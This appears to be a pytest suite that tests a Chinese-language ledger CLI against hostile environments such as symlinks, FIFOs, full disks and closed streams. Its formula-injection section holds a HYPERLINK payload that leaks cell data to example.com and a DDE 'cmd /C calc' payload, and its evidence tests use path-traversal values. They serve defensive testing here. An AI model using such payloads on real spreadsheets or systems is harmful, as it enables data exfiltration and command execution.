"""Hostile environments: where output goes, what the streams are, what the disk allows.

Each numbered section reproduces one defect of the adversarial trial (issue 15).
Nothing here writes to a device: devices are stood in for by FIFOs and symlinks
made in tmp_path, and a full disk by a small tmpfs mounted (as root) in tmp_path.
"""

from __future__ import annotations

import errno
import hashlib
import json
import os
import shutil
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from conftest import ONE_ITEM, SAMPLE, git

ROOT = os.geteuid() == 0 if hasattr(os, "geteuid") else False


def _env(changes: dict[str, str | None] | None) -> dict[str, str]:
    """os.environ with changes; a variable set to None is removed."""
    full_env = dict(os.environ)
    for key, value in (changes or {}).items():
        if value is None:
            full_env.pop(key, None)
        else:
            full_env[key] = value
    return full_env


def run_proc(args: list[str], cwd: Path, *, env: dict[str, str | None] | None = None, shell_redirect: str = "",
             timeout: float = 60) -> subprocess.CompletedProcess[bytes]:
    """`python -m checklist ARGS` in its own process; shell_redirect (like '>&-') is applied by sh."""
    full_env = _env(env)
    if shell_redirect:
        quoted = " ".join("'" + a.replace("'", "'\\''") + "'" for a in [sys.executable, "-m", "checklist", *args])
        cmd: list[str] | str = f"exec {quoted} {shell_redirect}"
        return subprocess.run(cmd, shell=True, cwd=cwd, env=full_env, capture_output=True, timeout=timeout)
    return subprocess.run([sys.executable, "-m", "checklist", *args], cwd=cwd, env=full_env,
                          capture_output=True, timeout=timeout)


@pytest.fixture
def one(ledger: Path) -> Path:
    """The plain ledger with one department file, CZJ-001 open, committed in git."""
    (ledger / "lists" / "CZJ.yaml").write_text(ONE_ITEM, encoding="utf-8")
    git(ledger, "init", "-q")
    git(ledger, "add", "-A")
    git(ledger, "commit", "-qm", "start")
    return ledger


def head(root: Path) -> str:
    return git(root, "rev-parse", "HEAD").strip()


# ---------------------------------------------------------------- 1. --output


def test_output_refuses_a_symlink(one: Path, tmp_path: Path, cli) -> None:  # type: ignore[no-untyped-def]
    target = tmp_path / "keep.txt"
    target.write_text("mine\n", encoding="utf-8")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    result = cli("report", "--format", "csv", "--output", str(link))
    assert result.code == 1, result
    assert result.err == f"{link} is a symbolic link; --output does not replace links, nothing was written\n"
    assert link.is_symlink() and target.read_text(encoding="utf-8") == "mine\n"


def test_output_refuses_a_fifo_without_opening_it(one: Path, tmp_path: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    # Opening a FIFO for writing blocks until a reader comes: the timeout would say so.
    proc = run_proc(["report", "--output", str(fifo)], one, timeout=30)
    assert proc.returncode == 1, proc
    assert proc.stderr.decode() == f"{fifo} is not a regular file (a device, a pipe or a folder); --output writes only files, nothing was written\n"
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


@pytest.mark.parametrize("spelling", ["lists/CZJ.yaml", "./lists/../lists/CZJ.yaml", "checklist.toml", "lists/新.yaml"])
def test_output_refuses_the_ledgers_own_files(one: Path, cli, spelling: str) -> None:  # type: ignore[no-untyped-def]
    before = {p: p.read_bytes() for p in (one / "lists" / "CZJ.yaml", one / "checklist.toml")}
    result = cli("report", "--format", "csv", "--output", spelling)
    assert result.code == 1, result
    assert result.err == f"{spelling} belongs to the ledger (a list file or checklist.toml); --output never writes there, nothing was written\n"
    assert {p: p.read_bytes() for p in before} == before


@pytest.mark.parametrize("path", ["/dev/stdout", "/dev/fd/1", "-"])
def test_output_writes_through_dev_stdout(one: Path, path: str) -> None:
    """/dev/stdout is written through (here: a pipe), never replaced."""
    assert os.path.islink("/dev/stdout")
    proc = run_proc(["report", "--format", "csv", "--output", path], one)
    assert proc.returncode == 0, proc
    assert proc.stdout.startswith("\ufeff".encode()) and "市财政局".encode() in proc.stdout
    assert proc.stderr == b""  # no "wrote /dev/stdout": nothing was written but the output
    assert os.path.islink("/dev/stdout")


def test_output_dev_stdout_redirected_to_a_file(one: Path, tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    proc = run_proc(["report", "--format", "csv", "--output", "/dev/stdout"], one, shell_redirect=f"> '{target}'")
    assert proc.returncode == 0, proc
    assert target.read_bytes().startswith("\ufeff".encode())
    assert os.path.islink("/dev/stdout")


def test_output_failed_write_is_reported(one: Path, tmp_path: Path, cli, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    import checklist.ledger.disk

    def full(*args: object, **kwargs: object) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(checklist.ledger.disk, "write_atomic", full)
    result = cli("report", "--output", str(tmp_path / "r.txt"))
    assert result.code == 1, result
    assert result.err == f"cannot write {tmp_path / 'r.txt'}: No space left on device\n"
    assert not (tmp_path / "r.txt").exists()


def _fill(folder: Path) -> None:
    """Fill the file system of folder to the last byte (a file named pad)."""
    try:
        with open(folder / "pad", "wb") as fh:
            while True:
                fh.write(b"\0" * 4096)
                fh.flush()
    except OSError:
        pass


@pytest.fixture
def small_tmpfs(tmp_path: Path) -> Iterator[Path]:
    """A 512 KB tmpfs in tmp_path, unmounted afterwards. Needs root."""
    if not ROOT or not shutil.which("mount"):
        pytest.skip("mounting a tmpfs needs root")
    mnt = tmp_path / "small"
    mnt.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=512k", "tmpfs", str(mnt)], capture_output=True).returncode:
        pytest.skip("cannot mount a tmpfs here")
    try:
        yield mnt
    finally:
        subprocess.run(["umount", "-l", str(mnt)], check=False)


@pytest.fixture
def tiny_tmpfs(small_tmpfs: Path) -> Path:
    """The small tmpfs, filled up."""
    _fill(small_tmpfs)
    return small_tmpfs


def test_output_on_a_full_disk(one: Path, tiny_tmpfs: Path) -> None:
    target = tiny_tmpfs / "r.txt"
    proc = run_proc(["report", "--output", str(target)], one)
    assert proc.returncode == 1, proc
    assert proc.stderr.decode() == f"cannot write {target}: No space left on device\n"
    assert not target.exists() and sorted(p.name for p in tiny_tmpfs.iterdir()) == ["pad"]


def test_output_through_dev_stdout_onto_a_full_disk(one: Path, tiny_tmpfs: Path) -> None:
    """Like `--output /dev/stdout > /dev/full`: the failed write is an error, not "wrote"."""
    proc = run_proc(["report", "--output", "/dev/stdout"], one, shell_redirect=f">> '{tiny_tmpfs / 'pad'}'")
    assert proc.returncode == 1, proc
    assert proc.stderr.decode() == "cannot write /dev/stdout: No space left on device\n"


# ---------------------------------------------------------------- 2. formulas in every export

FORMULA = '=HYPERLINK("http://example.com/?"&A1,"点击")'


@pytest.fixture
def formula_ledger(ledger: Path) -> Path:
    text = ONE_ITEM.replace("部分干部思想松懈", FORMULA.replace('"', '\\"')).replace("title: ", 'title: "', 1)
    text = text.replace("点击\\\")", "点击\\\")\"")
    text = text.replace("owner: 王芳", "owner: \"@王芳\"")
    (ledger / "lists" / "CZJ.yaml").write_text(text, encoding="utf-8")
    git(ledger, "init", "-q")
    git(ledger, "add", "-A")
    git(ledger, "commit", "-qm", "+start")
    return ledger


@pytest.mark.parametrize("args", [
    ("list", "--format", "csv"), ("show", "CZJ-001", "--format", "csv"), ("history", "CZJ-001", "--format", "csv"),
])
def test_csv_exports_never_hold_a_formula(formula_ledger: Path, cli, args: tuple[str, ...]) -> None:  # type: ignore[no-untyped-def]
    import csv
    import io

    result = cli(*args)
    assert result.code == 0, result
    cells = [c for row in csv.reader(io.StringIO(result.out.lstrip("\ufeff"))) for c in row]
    assert "'" + FORMULA in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c.lstrip("-").isdigit())]


def test_audit_csv_never_holds_a_formula(formula_ledger: Path, cli) -> None:  # type: ignore[no-untyped-def]
    import csv
    import io

    (formula_ledger / "lists" / "CZJ.yaml").write_text("department: 市财政局\ncode: CZJ\nitems: []\n", encoding="utf-8")
    git(formula_ledger, "commit", "-qam", "=cmd|' /C calc'!A0")
    result = cli("audit", "--format", "csv")
    assert result.code == 1, result
    cells = [c for row in csv.reader(io.StringIO(result.out.lstrip("\ufeff"))) for c in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_xlsx_report_cells_are_text(formula_ledger: Path, tmp_path: Path, cli) -> None:  # type: ignore[no-untyped-def]
    import openpyxl

    result = cli("report", "--format", "xlsx", "--output", str(tmp_path / "r.xlsx"), "--as-of", "2026-12-01")
    assert result.code == 0, result
    book = openpyxl.load_workbook(tmp_path / "r.xlsx")
    found = [(c.value, c.data_type) for ws in book for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert (FORMULA, "s") in found
    assert all(kind == "s" for _, kind in found), found


# ---------------------------------------------------------------- 3. file names that are not UTF-8


@pytest.mark.skipif(sys.platform == "win32" or sys.platform == "darwin", reason="needs a file system that takes any bytes")
@pytest.mark.parametrize("command", [("validate",), ("list",), ("report",), ("note", "CZJ-001", "已开会", "--no-commit")])
def test_a_file_name_that_is_not_utf8(one: Path, cli, command: tuple[str, ...]) -> None:  # type: ignore[no-untyped-def]
    bad = os.path.join(os.fsencode(one / "lists"), b"\xb2\xc6\xd5\xfe.yaml")  # 财政 in GBK
    with open(bad, "wb") as fh:
        fh.write(ONE_ITEM.replace("CZJ", "GBK").replace("市财政局", "市国库").encode())
    result = cli(*command)
    assert result.code in (0, 1), result
    assert "internal error" not in result.err and "Traceback" not in result.err
    if command[0] == "validate":
        assert result.code == 0, result
    if command[0] == "list":
        assert "GBK-001" in result.out and "CZJ-001" in result.out


@pytest.mark.skipif(sys.platform in ("win32", "darwin"), reason="needs a file system that takes any bytes")
def test_a_file_name_that_is_not_utf8_is_cached(one: Path, cli) -> None:  # type: ignore[no-untyped-def]
    bad = os.path.join(os.fsencode(one / "lists"), b"\xb2\xc6.yaml")
    with open(bad, "wb") as fh:
        fh.write(ONE_ITEM.replace("CZJ", "GBK").replace("市财政局", "市国库").encode())
    assert cli("validate").code == 0
    entries = list(Path(os.environ["CHECKLIST_CACHE_DIR"]).glob("*/files/*.json"))
    assert len(entries) == 2  # both files, the one named in GBK too
    result = cli("validate")
    assert (result.code, result.out) == (0, "2 file(s), 2 item(s): no problems\n"), result


# ---------------------------------------------------------------- 4. evidence


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def _with_evidence(root: Path, *entries: tuple[str, str]) -> None:
    lines = "".join(f"      - {{path: {json.dumps(p, ensure_ascii=False)}, sha256: {s}}}\n" for p, s in entries)
    text = ONE_ITEM.replace("status: open", "status: closed\n    closed_on: 2026-11-20\n    result: 已整改\n    evidence:\n" + lines)
    (root / "lists" / "CZJ.yaml").write_text(text, encoding="utf-8")


def test_evidence_outside_the_ledger_is_a_problem_never_read(ledger: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_bytes(b"s3cret")
    (ledger / "evidence").mkdir()
    (ledger / "evidence" / "link.pdf").symlink_to(secret)
    _with_evidence(ledger, ("../secret.txt", _sha(b"s3cret")), (str(secret), "a" * 64),
                   ("evidence/link.pdf", _sha(b"s3cret")))
    proc = run_proc(["validate"], ledger)
    assert proc.returncode == 1, proc
    # The same answer whether the hash matches or not: no oracle of existence or content.
    assert proc.stderr.decode().splitlines()[:3] == [
        "lists/CZJ.yaml:4:5: CZJ-001: evidence ../secret.txt lies outside the ledger; evidence must be a file inside it",
        f"lists/CZJ.yaml:4:5: CZJ-001: evidence {secret} lies outside the ledger; evidence must be a file inside it",
        "lists/CZJ.yaml:4:5: CZJ-001: evidence evidence/link.pdf lies outside the ledger; evidence must be a file inside it",
    ]


def test_evidence_fifo_and_device_are_never_opened(ledger: Path) -> None:
    (ledger / "evidence").mkdir()
    os.mkfifo(ledger / "evidence" / "pipe.pdf")
    (ledger / "evidence" / "zero.pdf").symlink_to("/dev/zero")
    _with_evidence(ledger, ("evidence/pipe.pdf", "a" * 64), ("evidence/zero.pdf", "a" * 64))
    proc = run_proc(["validate"], ledger, timeout=30)
    assert proc.returncode == 1, proc
    assert proc.stderr.decode().splitlines()[:2] == [
        "lists/CZJ.yaml:4:5: CZJ-001: evidence evidence/pipe.pdf is not a regular file; evidence must be a file inside the ledger",
        "lists/CZJ.yaml:4:5: CZJ-001: evidence evidence/zero.pdf lies outside the ledger; evidence must be a file inside it",
    ]


def test_evidence_inside_still_checked(ledger: Path, cli) -> None:  # type: ignore[no-untyped-def]
    (ledger / "evidence").mkdir()
    (ledger / "evidence" / "a.pdf").write_bytes(b"pdf")
    _with_evidence(ledger, ("evidence/a.pdf", _sha(b"pdf")), ("evidence/b.pdf", _sha(b"pdf")))
    result = cli("validate")
    assert result.code == 1, result
    assert result.err.splitlines()[:1] == ["lists/CZJ.yaml:4:5: CZJ-001: evidence file evidence/b.pdf is missing"]


def test_close_with_a_fifo_as_evidence(one: Path, cli, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.setenv("CHECKLIST_TODAY", "2026-11-25")
    os.mkfifo(one / "pipe.pdf")
    before = (one / "lists" / "CZJ.yaml").read_bytes()
    result = cli("close", "CZJ-001", "--result", "已整改", "--evidence", "pipe.pdf")
    assert result.code == 1, result
    assert result.err == "pipe.pdf is not a regular file; evidence must be a file inside the ledger\n"
    assert (one / "lists" / "CZJ.yaml").read_bytes() == before


# ---------------------------------------------------------------- 5. dates near 9999-12-31

FAR = ONE_ITEM.replace("deadline: 2026-12-31", "deadline: 9999-12-31")


@pytest.mark.parametrize("args", [
    ("report", "--as-of", "9999-12-31"), ("report", "--format", "html", "--output", "r.html", "--as-of", "9999-12-31"),
    ("list", "--state", "due_soon"), ("list", "--format", "json"), ("show", "CZJ-001"),
    ("add", "--dept", "CZJ", "--title", "远期问题", "--owner", "王芳", "--deadline", "+1m", "--no-commit"),
    ("extend", "CZJ-001", "--to", "+1m", "--reason", "延期", "--no-commit"),
])
def test_dates_near_the_end_of_the_calendar(ledger: Path, cli, monkeypatch: pytest.MonkeyPatch, args: tuple[str, ...]) -> None:  # type: ignore[no-untyped-def]
    (ledger / "lists" / "CZJ.yaml").write_text(FAR, encoding="utf-8")
    monkeypatch.setenv("CHECKLIST_TODAY", "9999-12-31")
    result = cli(*args)
    assert result.code in (0, 1, 2), result
    assert "internal error" not in result.err, result
    if "+1m" in args:
        assert result.code == 2 and "outside the calendar" in result.err, result
        assert (ledger / "lists" / "CZJ.yaml").read_text(encoding="utf-8") == FAR
    else:
        assert result.code == 0, result


# ---------------------------------------------------------------- 6. output that cannot be written


def _items(root: Path) -> int:
    return (root / "lists" / "CZJ.yaml").read_text(encoding="utf-8").count("- id:")


ADD = ["add", "--dept", "CZJ", "--title", "新问题", "--owner", "王芳", "--deadline", "2026-12-31"]


def test_edit_with_stdout_closed_exits_0_once(one: Path) -> None:
    proc = run_proc(ADD, one, env={"CHECKLIST_TODAY": "2026-11-25"}, shell_redirect=">&-")
    assert proc.returncode == 0, proc
    assert b"internal error" not in proc.stderr and b"Traceback" not in proc.stderr
    assert _items(one) == 2 and git(one, "status", "--porcelain") == ""


def test_version_with_stdout_closed(one: Path) -> None:
    proc = run_proc(["--version"], one, shell_redirect=">&-")
    assert proc.returncode in (0, 1), proc
    assert b"Traceback" not in proc.stderr


@pytest.mark.parametrize("env", [{"PYTHONIOENCODING": "ascii"}, {"LC_ALL": "C", "LANG": "C", "PYTHONUTF8": "0", "PYTHONIOENCODING": ""}],
                         ids=["PYTHONIOENCODING=ascii", "LC_ALL=C"])
def test_output_in_ascii_is_escaped(one: Path, env: dict[str, str]) -> None:
    for args in (["list"], ["show", "CZJ-001"], ["--lang", "zh", "validate"]):
        proc = run_proc(args, one, env=env)
        assert proc.returncode == 0, proc
        proc.stdout.decode("ascii")
        assert b"\\u" in proc.stdout or b"\\u" in proc.stderr, proc
    proc = run_proc([*ADD, "--lang", "zh"], one, env={**env, "CHECKLIST_TODAY": "2026-11-25"})
    assert proc.returncode == 0, proc
    assert _items(one) == 2 and "新问题" in (one / "lists" / "CZJ.yaml").read_text(encoding="utf-8")


def _reader_gone(args: list[str], cwd: Path, env: dict[str, str | None] | None = None) -> subprocess.CompletedProcess[bytes]:
    """Run with stdout a pipe whose reader has already gone (like `| head -0`)."""
    read, write = os.pipe()
    os.close(read)
    try:
        proc = subprocess.run([sys.executable, "-m", "checklist", *args], cwd=cwd, stdout=write,
                              stderr=subprocess.PIPE, env=_env(env), timeout=60)
    finally:
        os.close(write)
    return proc


@pytest.mark.parametrize("args", [["list"], ["--help"], ["report"], ["show", "CZJ-001"]])
def test_reader_gone_is_not_a_failure(one: Path, args: list[str]) -> None:
    proc = _reader_gone(args, one)
    assert proc.returncode == 0, proc
    assert proc.stderr == b"", proc


def test_edit_with_reader_gone_exits_0(one: Path) -> None:
    proc = _reader_gone(ADD, one, {"CHECKLIST_TODAY": "2026-11-25"})
    assert proc.returncode == 0, proc
    assert _items(one) == 2


def test_stdout_write_error_on_a_read_command(one: Path, cli, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    """A full disk behind stdout (like `> /dev/full`): the listing was not delivered, say so."""

    class Full:
        encoding = "utf-8"
        errors = "strict"

        def write(self, s: str) -> int:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

        def flush(self) -> None:
            pass

        def isatty(self) -> bool:
            return False

    monkeypatch.setattr(sys, "stdout", Full())
    result = cli("list")
    assert result.code == 1, result
    assert result.err == "cannot write the output: No space left on device\n"


# ---------------------------------------------------------------- 7. read-only ledger, lock in the way


@pytest.fixture
def read_only(tmp_path: Path) -> Iterator[Path]:
    """A folder that cannot be written: a read-only bind mount as root, chmod otherwise."""
    folder = tmp_path / "ro"
    folder.mkdir()
    if ROOT:
        if subprocess.run(["mount", "--bind", str(folder), str(folder)], capture_output=True).returncode:
            pytest.skip("cannot bind-mount here")
        subprocess.run(["mount", "-o", "remount,ro,bind", str(folder)], check=True, capture_output=True)
        try:
            yield folder
        finally:
            subprocess.run(["umount", "-l", str(folder)], check=False)
    else:
        folder.chmod(0o555)
        try:
            yield folder
        finally:
            folder.chmod(0o755)


def test_init_on_a_read_only_folder(read_only: Path, cli) -> None:  # type: ignore[no-untyped-def]
    result = cli("init", str(read_only / "台账"))
    assert result.code == 1, result
    assert result.err.startswith(f"cannot write {read_only / '台账'}: "), result
    assert len(result.err.splitlines()) == 1


def test_init_in_a_read_only_folder_itself(read_only: Path, cli) -> None:  # type: ignore[no-untyped-def]
    result = cli("init", str(read_only))
    assert result.code == 1, result
    assert len(result.err.splitlines()) == 1 and str(read_only) in result.err, result


def test_checklist_folder_is_a_file(one: Path, cli) -> None:  # type: ignore[no-untyped-def]
    (one / ".checklist").write_text("x", encoding="utf-8")
    result = cli("note", "CZJ-001", "已开会", "--no-commit")
    assert result.code == 1, result
    assert result.err.startswith(f"cannot write in {one / '.checklist'} ("), result


def test_lock_is_a_folder(one: Path, cli) -> None:  # type: ignore[no-untyped-def]
    (one / ".checklist" / "lock").mkdir(parents=True)
    result = cli("note", "CZJ-001", "已开会", "--no-commit")
    assert result.code == 1, result
    assert str(one / ".checklist") in result.err and "Traceback" not in result.err


def test_full_disk_with_no_commit(one: Path, cli, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    import checklist.ledger.disk

    real = checklist.ledger.disk.write_atomic

    def full(path: Path, content: bytes, *, durable: bool = True) -> None:
        if path.suffix == ".yaml":
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        real(path, content, durable=durable)

    monkeypatch.setattr(checklist.ledger.disk, "write_atomic", full)
    before = (one / "lists" / "CZJ.yaml").read_bytes()
    result = cli("note", "CZJ-001", "已开会", "--no-commit")
    assert result.code == 1, result
    assert "No space left on device" in result.err and len(result.err.splitlines()) == 1
    assert (one / "lists" / "CZJ.yaml").read_bytes() == before


@pytest.mark.parametrize("commit", [False, True], ids=["--no-commit", "commit"])
def test_ledger_on_a_full_disk(one: Path, small_tmpfs: Path, commit: bool) -> None:
    """A real full disk (a tmpfs), not a simulated one: the edit is refused, the file as it was."""
    root = small_tmpfs / "ledger"
    shutil.copytree(one, root, symlinks=True)
    run_proc(["validate"], root)  # the lock folder exists, as in a ledger already in use
    _fill(small_tmpfs)
    before = (root / "lists" / "CZJ.yaml").read_bytes(), head(root)
    proc = run_proc(["note", "CZJ-001", "已开会", *([] if commit else ["--no-commit"])], root,
                    env={"CHECKLIST_TODAY": "2026-11-25"})
    assert proc.returncode == 1, proc
    assert len(proc.stderr.splitlines()) == 1 and b"No space left on device" in proc.stderr, proc
    assert ((root / "lists" / "CZJ.yaml").read_bytes(), head(root)) == before


def test_ledger_on_a_read_only_mount(one: Path, tmp_path: Path, cli) -> None:  # type: ignore[no-untyped-def]
    if not ROOT:
        pytest.skip("a read-only bind mount needs root (chmod is tested by test_init_on_a_read_only_folder)")
    (one / ".checklist").mkdir(exist_ok=True)
    if subprocess.run(["mount", "--bind", str(one), str(one)], capture_output=True).returncode:
        pytest.skip("cannot bind-mount here")
    try:
        subprocess.run(["mount", "-o", "remount,ro,bind", str(one)], check=True, capture_output=True)
        before = (one / "lists" / "CZJ.yaml").read_bytes()
        for args in (("note", "CZJ-001", "已开会"), ("note", "CZJ-001", "已开会", "--no-commit"), tuple(ADD)):
            result = cli(*args)
            assert result.code == 1, result
            assert len(result.err.splitlines()) == 1 and "Read-only file system" in result.err, result
        assert (one / "lists" / "CZJ.yaml").read_bytes() == before
    finally:
        subprocess.run(["umount", "-l", str(one)], check=False)


# ---------------------------------------------------------------- 9. environment variables


def test_max_file_mb_not_a_number(one: Path, cli, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.setenv("CHECKLIST_MAX_FILE_MB", "abc")
    result = cli("list")
    assert result.code == 2, result
    assert result.err == "CHECKLIST_MAX_FILE_MB must be a whole number of megabytes, not 'abc'\n"


def test_max_file_mb_is_used(one: Path, cli, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.setenv("CHECKLIST_MAX_FILE_MB", "0")
    result = cli("validate")
    assert result.code == 1, result
    assert "list files are limited to 0 MB" in result.err


@pytest.mark.parametrize("value", ["0", ""])
def test_debug_0_shows_no_traceback(tmp_path: Path, cli, monkeypatch: pytest.MonkeyPatch, value: str) -> None:  # type: ignore[no-untyped-def]
    import checklist.ledger.files

    def boom(*args: object, **kwargs: object) -> None:
        raise RuntimeError("boom")

    monkeypatch.setattr(checklist.ledger.files, "check_ledger", boom)
    monkeypatch.setenv("CHECKLIST_DEBUG", value)
    (tmp_path / "f.yaml").write_text("x: 1\n")
    result = cli("validate", str(tmp_path / "f.yaml"))
    assert result.code == 70 and result.err.startswith("internal error (RuntimeError: boom)"), result


def test_usage_error_with_stderr_closed_keeps_its_code(tmp_path: Path) -> None:
    proc = run_proc(["validate", str(tmp_path / "nonexistent")], tmp_path, shell_redirect="2>&-")
    assert proc.returncode == 2, proc


# ---------------------------------------------------------------- 10. look-alike input


def test_id_with_an_invisible_character(one: Path, cli) -> None:  # type: ignore[no-untyped-def]
    for args in (("show", "CZJ-001\u200b"), ("note", "CZJ-001\u200b", "已开会", "--no-commit"), ("history", "CZJ-001\u200b")):
        result = cli(*args)
        assert result.code == 1, result
        assert result.err == "the ID 'CZJ-001\\u200b' holds an invisible character (U+200B ZERO WIDTH SPACE); type the ID again\n"


@pytest.mark.parametrize("owner", ["\\u200b", "\\u00a0", "\\u3000", "\\u200b\\u200d", "\\ufeff"])
def test_invisible_values_are_empty(ledger: Path, cli, owner: str) -> None:  # type: ignore[no-untyped-def]
    (ledger / "lists" / "CZJ.yaml").write_text(ONE_ITEM.replace("owner: 王芳", f'owner: "{owner}"'), encoding="utf-8")
    result = cli("validate")
    assert result.code == 1, result
    assert result.err.splitlines()[0] == "lists/CZJ.yaml:6:12: owner must not be empty", result


def test_add_refuses_an_invisible_owner(one: Path, cli, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.setenv("CHECKLIST_TODAY", "2026-11-25")
    before = (one / "lists" / "CZJ.yaml").read_bytes()
    result = cli("add", "--dept", "CZJ", "--title", "新问题", "--owner", "\u200b", "--deadline", "2026-12-31")
    assert (result.code, result.err) == (1, "the responsible person (owner) cannot be empty\n"), result
    result = cli("note", "CZJ-001", "\u200b\u3000")
    assert (result.code, result.err) == (1, "the progress note cannot be empty\n"), result
    assert (one / "lists" / "CZJ.yaml").read_bytes() == before


def test_symlinked_list_file_in_git_gets_the_symlink_refusal(one: Path, tmp_path: Path, cli, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.setenv("CHECKLIST_TODAY", "2026-11-25")
    outside = tmp_path / "elsewhere.yaml"
    shutil.move(one / "lists" / "CZJ.yaml", outside)
    (one / "lists" / "CZJ.yaml").symlink_to(outside)
    result = cli("note", "CZJ-001", "已开会")
    assert result.code == 1, result
    assert result.err.startswith(f"lists/CZJ.yaml is a symbolic link to {outside}"), result


# ---------------------------------------------------------------- the property: every command, every environment

SLOW = os.environ.get("CHECKLIST_SLOW", "") not in ("", "0")

# One invocation of every command on the sample ledger; edits carry --no-commit or commit, both ways.
COMMANDS: list[list[str]] = [
    ["list"], ["show", "FGW-002"], ["report"], ["note", "FGW-002", "已召开专题会议"],
    ["validate"], ["list", "--format", "csv"], ["report", "--format", "json"], ["history", "FGW-002"], ["audit"],
    ["schema"], ["--help"], ["--version"],
    ["add", "--dept", "FGW", "--title", "新发现问题", "--owner", "张建国", "--deadline", "2026-12-31"],
    ["close", "FGW-003", "--result", "已整改到位"], ["extend", "FGW-004", "--to", "2027-03-31", "--reason", "需跨年实施"],
    ["reopen", "FGW-001", "--reason", "问题反弹"], ["verify", "FGW-005", "--by", "市委督查室"],
    ["update", "FGW-002", "--measures", "每周调度", "--no-commit"], ["task", "add", "FGW-002", "制定方案"],
    ["rule", "FGW-002", "建立项目调度制度"], ["accountability", "FGW-002", "--person", "李卫东", "--measure", "约谈"],
    ["import", "missing.csv", "--dept", "FGW"], ["init", "新台账"],
]
FAST = [COMMANDS[i] for i in (0, 1, 2, 3)]
ENVIRONMENTS = ["closed stdout", "closed stderr", "broken pipe", "ascii encoding", "read-only cache folder", "no HOME"]


@pytest.fixture(scope="module")
def sample_template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The sample ledger (data/sample_issues.yaml in lists/), committed in git."""
    root = tmp_path_factory.mktemp("sample") / "ledger"
    (root / "lists").mkdir(parents=True)
    (root / "checklist.toml").write_text('lists = "lists"\n', encoding="utf-8")
    shutil.copy(SAMPLE, root / "lists" / "sample.yaml")
    env = {**os.environ, "GIT_AUTHOR_NAME": "李明", "GIT_AUTHOR_EMAIL": "liming@example.gov.cn",
           "GIT_COMMITTER_NAME": "李明", "GIT_COMMITTER_EMAIL": "liming@example.gov.cn"}
    for args in (["init", "-q"], ["add", "-A"], ["commit", "-qm", "台账"]):
        subprocess.run(["git", *args], cwd=root, check=True, capture_output=True, env=env)
    return root


def _environment(name: str, tmp_path: Path) -> tuple[dict[str, str | None], str]:
    """The environment variables and shell redirection of a hostile environment."""
    if name == "closed stdout":
        return {}, ">&-"
    if name == "closed stderr":
        return {}, "2>&-"
    if name == "ascii encoding":
        return {"PYTHONIOENCODING": "ascii"}, ""
    if name == "read-only cache folder":
        if ROOT:  # chmod does not stop root: a cache folder under a file cannot be made either
            blocker = tmp_path / "not-a-folder"
            blocker.write_text("", encoding="utf-8")
            return {"CHECKLIST_CACHE_DIR": str(blocker / "cache")}, ""
        cache = tmp_path / "ro-cache"
        cache.mkdir()
        cache.chmod(0o555)
        return {"CHECKLIST_CACHE_DIR": str(cache)}, ""
    if name == "no HOME":
        return {"HOME": None, "CHECKLIST_CACHE_DIR": None, "XDG_CACHE_HOME": None, "XDG_CONFIG_HOME": None}, ""
    return {}, ""


def _state(root: Path) -> tuple[bytes, str]:
    return (root / "lists" / "sample.yaml").read_bytes(), head(root)


@pytest.mark.parametrize("name", ENVIRONMENTS)
def test_every_command_in_a_hostile_environment(sample_template: Path, tmp_path: Path, name: str) -> None:
    root = tmp_path / "ledger"
    shutil.copytree(sample_template, root, symlinks=True)
    env, redirect = _environment(name, tmp_path)
    env["CHECKLIST_TODAY"] = "2026-12-01"
    for args in COMMANDS if SLOW else FAST:
        before = _state(root)
        if name == "broken pipe":
            proc = _reader_gone(args, root, env)
        else:
            proc = run_proc(args, root, env=env, shell_redirect=redirect)
        where = f"{name}: checklist {' '.join(args)} -> {proc.returncode}\n{proc.stderr.decode(errors='replace')}"
        assert proc.returncode in (0, 1, 2), where
        assert b"Traceback" not in proc.stderr and b"internal error" not in proc.stderr, where
        if proc.returncode != 0:
            assert _state(root) == before, where
        if name == "ascii encoding":
            proc.stdout.decode("ascii")
            proc.stderr.decode("ascii")
